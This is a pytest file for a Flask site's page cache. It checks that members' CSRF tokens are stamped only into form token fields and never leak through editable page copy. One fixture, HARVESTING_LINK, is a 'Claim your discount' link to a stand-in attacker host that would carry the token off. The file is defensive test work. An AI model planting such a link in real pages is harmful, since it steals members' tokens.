"""Cached member pages: the visitor's CSRF token goes into the forms' token fields and nowhere
else, so copy that repeats the placeholder cannot carry a member's token off (issue 13, item 8)."""

from __future__ import annotations

import copy
import gzip
import re

import pytest
from flask import Flask

from tests.conftest import CSRF_RE, AuthActions, create_user, csrf_token
from webapp.catalog import get_catalog
from webapp.extensions import db
from webapp.models import CopyRevision
from webapp.page_cache import (
    CSRF_PLACEHOLDER,
    render_with_csrf_placeholder,
    stamp_csrf,
    stamped_response,
)

HARVESTING_LINK = f"[Claim your discount](https://evil.example/?t={CSRF_PLACEHOLDER})"
TOKEN_FIELD = re.compile(r'<input\b[^<>]*\bname="csrf_token"[^<>]*>')


def publish_unchecked(app: Flask, document: dict) -> None:
    """Copy that reached the database without the editor's checks (an old revision, a bug)."""
    with app.app_context():
        db.session.add(
            CopyRevision(
                number=2, document=document, author_label="test", summary="test", changes=[]
            )
        )
        db.session.commit()


def harvesting_copy(app: Flask) -> dict:
    with app.app_context():
        document = copy.deepcopy(get_catalog().default_copy())
    document["plans"]["professional"]["description"] = HARVESTING_LINK
    document["plans"]["starter"]["name"] = f"Starter {CSRF_PLACEHOLDER}"
    document["page"]["headline"] = f"Plans {CSRF_PLACEHOLDER}"
    return document


def outside_token_fields(html: str) -> str:
    return TOKEN_FIELD.sub("", html)


@pytest.mark.parametrize("page", ["/pricing", "/account"])
def test_copy_repeating_the_placeholder_never_receives_the_members_token(app, client, page):
    publish_unchecked(app, harvesting_copy(app))
    create_user(app)
    AuthActions(app, client).login()
    for _ in range(2):  # rendered, then served from the cache
        response = client.get(page)
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        token = csrf_token(client, page)
        assert token != CSRF_PLACEHOLDER
        assert token not in outside_token_fields(html)
        assert f"?t={token}" not in html
    # The forms still carry the member's own token, which works.
    assert client.post("/logout", data={"csrf_token": token}).status_code == 303


def test_every_token_field_of_a_cached_page_is_stamped(app):
    with app.test_request_context():
        page = render_with_csrf_placeholder(
            lambda: (
                '<form><input id="csrf_token" name="csrf_token" type="hidden" '
                f'value="{CSRF_PLACEHOLDER}"></form>'
                f'<form><input type="hidden" name="csrf_token" value="{CSRF_PLACEHOLDER}"></form>'
                f'<p>{CSRF_PLACEHOLDER}</p><a href="/x?{CSRF_PLACEHOLDER}">x</a>'
            )
        )
        html = stamp_csrf(page)
        from flask_wtf.csrf import generate_csrf

        token = generate_csrf()
    assert html.count(token) == 2
    assert html.count(CSRF_PLACEHOLDER) == 2  # the copy's, left as it was
    assert f"<p>{CSRF_PLACEHOLDER}</p>" in html


@pytest.mark.parametrize("copies", [0, 1, 3])
def test_a_spliced_gzip_page_is_the_stamped_page(app, copies):
    """Members' pages are gzipped once when cached and only the token per request: the spliced
    stream must decode (CRC and length checked) to exactly the page stamp_csrf makes."""
    field = f'<input name="csrf_token" type="hidden" value="{CSRF_PLACEHOLDER}">'
    html = "<p>héllo</p>" + "".join(f"<form>{field}</form><p>{n}</p>" * 40 for n in range(copies))
    with app.test_request_context(headers={"Accept-Encoding": "gzip"}):
        page = render_with_csrf_placeholder(lambda: html)
        response = stamped_response(page)
        plain = stamp_csrf(page)
    assert response.headers["Content-Encoding"] == "gzip"
    assert gzip.decompress(response.get_data()).decode() == plain
    assert plain.count(CSRF_PLACEHOLDER) == 0
    with app.test_request_context():  # no Accept-Encoding: the plain page
        assert "Content-Encoding" not in stamped_response(page).headers


def test_members_pages_arrive_gzipped_and_whole(app, client):
    create_user(app)
    AuthActions(app, client).login()
    for page in ["/pricing", "/account"]:
        packed = client.get(page, headers={"Accept-Encoding": "gzip"})
        assert packed.headers["Content-Encoding"] == "gzip"
        html = gzip.decompress(packed.data).decode()
        assert html.rstrip().endswith("</html>")
        token = CSRF_RE.search(html)
        assert token and CSRF_PLACEHOLDER not in html
